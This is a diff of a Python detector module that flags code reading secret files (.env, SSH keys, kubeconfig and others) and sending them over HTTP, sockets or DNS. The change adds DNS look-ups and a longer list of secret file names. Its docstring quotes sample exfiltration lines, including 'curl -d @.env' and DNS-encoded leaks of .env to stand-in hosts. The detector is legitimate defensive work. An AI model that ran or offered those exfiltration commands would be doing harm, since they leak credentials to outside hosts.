@@ -4,12 +4,14 @@
 require('fs').readFileSync('.env', 'utf8')})``, ``Net::HTTP.post(uri, File.read('.env'))``:
 the read of a secret file (a string literal that :func:`._secrets.secret_file` names, as an
 argument of a file-reading call, seen through ``path.join``/``Path``) reaching the arguments
-of a sending call (``_langapi._SENDERS``), directly or through a variable bound to it (``d =
-open('.env').read()``, ``with open('.env') as f``, and one more assignment), is
-exfiltration, like ``curl -d @.env``. A variable used in an auth header (``headers=
-{'Authorization': tok}``) is how a client authenticates and is not counted; one in another
-header (``headers={'X-Data': d}``) is sent data. Writes to files
-(``f.write``) are not sends; reading ``.env.example``, or a read printed locally, passes.
+of a sending call (:func:`._codesend.send_calls`: HTTP, sockets, DNS look-ups such as
+``socket.gethostbyname(open('.env').read().hex()[:60] + '.e.example')``), directly or through
+a variable bound to it (``d = open('.env').read()``, ``with open('.env') as f``, and one more
+assignment), is exfiltration, like ``curl -d @.env`` or ``dig $(cat .env | xxd -p).e.x``.
+A variable used in an auth header (``headers={'Authorization': tok}``) is how a client
+authenticates and is not counted; one in another header (``headers={'X-Data': d}``) is sent
+data. Writes to files (``f.write``) are not sends; reading ``.env.example``, or a read
+printed locally, passes.
 
 Gated on a network module name and a secret file name appearing in the text; every scan is
 bounded (occurrence counts, windows).
@@ -20,9 +22,10 @@ from __future__ import annotations
 import re
 
 from ._code import literals
+from ._codesend import send_calls
 from ._gate import word_gate
 from ._hdrdata import auth_header
-from ._langapi import _NET_GATE_RE, _SENDERS, _statement_var
+from ._langapi import _NET_GATE_RE, _statement_var
 from ._langpaths import name_before
 from ._secrets import secret_file
 from ._words import Field
@@ -31,7 +34,11 @@ __all__ = ["secret_file_read", "secret_file_sent"]
 
 # Distinctive pieces of the secret file names (a text holding none reads no such file).
 _NAME_GATE = (".env", ".netrc", ".pgpass", "history", "id_rsa", "id_ed25519", "id_ecdsa",
-              "id_dsa", "credentials", ".lesshst", ".viminfo")
+              "id_dsa", "credentials", ".lesshst", ".viminfo", ".npmrc", ".pypirc", ".key",
+              ".pem", ".tfstate", ".tfvars", ".p12", ".pfx", "secret", "token.json",
+              ".vault-token", "kubeconfig", "service-account", "service_account",
+              ".dockercfg", ".htpasswd", "kaggle.json", "key.json", ".ppk", ".kdbx",
+              ".jks", ".keystore", "admin.conf", "master.key")
 _NAME_GATE_RE = word_gate(_NAME_GATE)
 # Calls (last name) that read the file named by their first argument.
 _READERS = frozenset({"open", "readFileSync", "readFile", "read_text", "read_bytes", "read",
@@ -39,7 +46,8 @@ _READERS = frozenset({"open", "readFileSync", "readFile", "read_text", "read_byt
                       "readFileStr", "file", "binread", "readlines", "ReadAllText",
                       "ReadAllBytes", "readAllBytes", "readString", "createReadStream",
                       "readAll", "slurp", "foreach", "IO.read", "readfile", "read_file",
-                      "sysopen"})
+                      "sysopen", "readLines", "read_lines", "readChar", "readRDS",
+                      "read_file_to_string", "readBin"})
 # Calls that only spell a path: the call around them (or a .read_text() after) reads it.
 _PATHS = frozenset({"join", "Path", "PurePath", "resolve", "abspath", "expanduser", "realpath",
                     "normpath", "of", "get", "new", "URL", "fspath"})
@@ -47,14 +55,11 @@ _PATH_READS = (".read_text(", ".read_bytes(", ".open(", ".text(", ".arrayBuffer(
                ".readlines(")
 _AUTH_MARKS = ("header", "authorization", "auth=", "auth:", "auth'", 'auth"', "bearer")
 _DATA_MARKS = ("data", "body", "json", "files", "content", "params", "payload")
-_LOCAL_SENDS = frozenset({"write", "end"})  # f.write(..), not a network send by itself
-_NET_RECEIVERS = ("sock", "req", "conn", "client", "ws", "http", "stream")
 _MAX = 20000
 # Reads without brackets: perl's open (a word, not a method) and a reader before the literal.
 _BARE_OPEN = re.compile(r"(?<![\w$>:.])(?:sys)?open[ \t]+")
 _BARE_READ = re.compile(r"(?<![\w$])(?:[\w:]{1,40}\.)?(?:read|readlines|binread|foreach|"
                         r"slurp|read_file|file_get_contents|readfile)[ \t]+(?=[\"'])")
-_SEND_RE = re.compile(r"(?<![\w$])(?:" + "|".join(sorted(_SENDERS)) + r")[ \t]{0,8}\(")
 
 
 def _enclosing(code: str, pos: int) -> int:
@@ -227,14 +232,15 @@ def secret_file_read(code: str) -> bool:
     return bool(_spots(code))
 
 
-def secret_file_sent(code: str) -> bool:
-    """True when a secret file read in ``code`` reaches a network call's arguments."""
+def secret_file_sent(code: str) -> str:
+    """``net`` or ``dns`` when a secret file read in ``code`` reaches the arguments of a
+    network call or a DNS look-up (:func:`._codesend.send_calls`), else ``""``."""
     if len(code) > _MAX or _NET_GATE_RE.search(code) is None or \
             _NAME_GATE_RE.search(code) is None:
-        return False
+        return ""
     found = _spots(code)
     if not found:
-        return False
+        return ""
     spots = [(start, paren) for start, paren, _h in found]
     names: set[str] = {h for _s, _p, h in found if h}  # open my $f, '<', '.env': $f
     for pos, paren in spots:
@@ -249,21 +255,12 @@ def secret_file_sent(code: str) -> bool:
                 names.add(again)
             k = code.find(var, k + 1)
     names = {n for n in names if len(n) < 64}
-    readers = {paren for _pos, paren in spots}
-    sends = 0
-    for m in _SEND_RE.finditer(code):  # only the calls named like senders: no bound on (
-        at = m.end() - 1
-        if sends >= 48:
-            break
-        name, _ = name_before(code, at)
-        short = _short(name)
-        if short in _SENDERS and at not in readers and (
-                short not in _LOCAL_SENDS or any(r in name.lower() for r in _NET_RECEIVERS)):
-            sends += 1
-            end = _close(code, at)
-            if any(at < pos < end for pos, _paren in spots):
-                return True
-            region = code[at:end]
-            if any(_uses(region, var) for var in sorted(names)):
-                return True
-    return False
+    readers = frozenset(paren for _pos, paren in spots)
+    for at, stop, kind in send_calls(code, readers):  # only the calls named like senders
+        end = stop if stop >= 0 else _close(code, at)
+        if any(at < pos < end for pos, _paren in spots):
+            return kind
+        region = code[at:end]
+        if any(_uses(region, var) for var in sorted(names)):
+            return kind
+    return ""
